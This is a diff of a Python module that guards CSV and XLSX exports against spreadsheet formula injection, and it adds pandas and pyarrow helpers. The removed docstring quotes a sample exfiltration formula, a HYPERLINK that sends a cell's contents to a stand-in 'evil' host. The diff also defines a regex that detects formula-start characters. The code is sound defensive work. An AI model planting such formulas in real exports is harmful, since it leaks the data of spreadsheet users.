@@ -1,68 +1,67 @@
-"""Spreadsheet-safe text cells: one rule for every export (CSV, XLSX and any later one).
-
-A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula (and
-tab or carriage return can lead into one), so ``=HYPERLINK("http://evil/?"&A1)`` typed as a
-firm name would run on the programme officer's computer. Such a text gets a leading
-apostrophe, which spreadsheets read as "this is text" and do not show (the OWASP advice).
-
-A plain number (``-5``, ``+84912345678``, ``-1.5e3``) is left alone: it can run nothing, and
-quoting it would turn numbers into text (``+84 912 345 678``, with spaces, is text and is quoted). Only text is touched; numbers,
-booleans and empty cells pass through.
-
-Pure: no pandas needed for one cell; ``neutralise_series`` does a whole column at once and
-touches each distinct value of a categorical column once.
+"""Spreadsheet cells that cannot run: a text cell starting with ``=``, ``+``, ``-``, ``@``, a
+tab or a carriage return is read by Excel, LibreOffice and Google Sheets as a formula (or
+DDE command). Every export writes its text cells through ``neutralise``, which prefixes such
+a text with an apostrophe, the spreadsheets' own "this is text" mark. Numbers stay numbers.
 """
 
 from __future__ import annotations
 
-import re
 from typing import Any
 
-# The characters a spreadsheet may start a formula with (OWASP "CSV injection").
-FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
-# The same as a regular expression, for vectorised engines (pandas .str, pyarrow.compute).
-FORMULA_START_PATTERN = r"^[=+\-@\t\r]"
-# A plain decimal number: safe as it is.
-PLAIN_NUMBER_PATTERN = r"^[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?$"
-_PLAIN_NUMBER = re.compile(PLAIN_NUMBER_PATTERN)
-PREFIX = "'"
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 
 
-def needs_neutralising(text: str) -> bool:
-    """True when a spreadsheet could read ``text`` as a formula."""
-    return text.startswith(FORMULA_START) and not _PLAIN_NUMBER.match(text)
-
-
-def neutralise_cell(value: Any) -> Any:
-    """``value`` made safe for a spreadsheet cell: a formula-like text gets a leading ``'``;
-    anything else comes back unchanged (the same object)."""
-    if isinstance(value, str) and needs_neutralising(value):
-        return PREFIX + value
+def neutralise(value: Any) -> Any:
+    """``value`` unchanged unless it is text a spreadsheet would run: then ``'`` + text."""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
     return value
 
 
-def neutralise_series(series):
-    """A pandas Series with every formula-like text cell neutralised (others unchanged).
+# ---- the same rule for whole columns (pure too: pandas and pyarrow are imported on use)
 
-    Categorical columns: only the categories are checked, so a million rows with a thousand
-    distinct values cost a thousand checks."""
+# FORMULA_STARTS as a regular expression, for vectorised engines (pandas .str, pyarrow.compute)
+FORMULA_START_PATTERN = r"^[=+\-@\t\r]"
+PREFIX = "'"
+
+
+def needs_neutralising(value: Any) -> bool:
+    """True when ``neutralise`` would change ``value``."""
+    return isinstance(value, str) and value.startswith(FORMULA_STARTS)
+
+
+def neutralise_array(arr):
+    """``neutralise`` over a pyarrow array or chunked array: text columns only."""
+    import pyarrow as pa
+    import pyarrow.compute as pc
+
+    if not (pa.types.is_string(arr.type) or pa.types.is_large_string(arr.type)):
+        return arr
+    risky = pc.match_substring_regex(arr, FORMULA_START_PATTERN).fill_null(False)
+    if not pc.any(risky).as_py():
+        return arr
+    return pc.if_else(risky, pc.binary_join_element_wise(PREFIX, arr, ""), arr)
+
+
+def neutralise_series(series):
+    """``neutralise`` over a pandas Series: text cells only. A categorical column checks each
+    category once (a million rows with a thousand distinct values: a thousand checks)."""
     import pandas as pd
 
     if isinstance(series.dtype, pd.CategoricalDtype):
-        categories = series.cat.categories
-        fixed = [neutralise_cell(c) for c in categories]
+        categories = list(series.cat.categories)
+        fixed = [neutralise(c) for c in categories]
         if all(a is b for a, b in zip(fixed, categories)):
             return series
         if len(set(fixed)) == len(fixed):
             return series.cat.rename_categories(fixed)
-        return series.astype(object).map(neutralise_cell)  # "=x" and "'=x" both present
+        return series.astype(object).map(neutralise)  # "=x" and "'=x" both present
     if series.dtype == object or isinstance(series.dtype, pd.StringDtype):
-        text = series.astype("string")
-        risky = text.str.match(FORMULA_START_PATTERN, na=False) & ~text.str.match(PLAIN_NUMBER_PATTERN, na=False)
+        risky = series.map(needs_neutralising).astype(bool)
         if not risky.any():
             return series
         out = series.copy()
-        out[risky] = PREFIX + text[risky]
+        out[risky] = PREFIX + series[risky].astype(str)
         return out
     return series  # numbers, booleans, dates: nothing a spreadsheet would run
 
@@ -76,11 +75,11 @@ def neutralise_frame(frame):
 
 
 __all__ = [
-    "FORMULA_START",
+    "FORMULA_STARTS",
     "FORMULA_START_PATTERN",
-    "PLAIN_NUMBER_PATTERN",
     "needs_neutralising",
-    "neutralise_cell",
+    "neutralise",
+    "neutralise_array",
     "neutralise_frame",
     "neutralise_series",
 ]
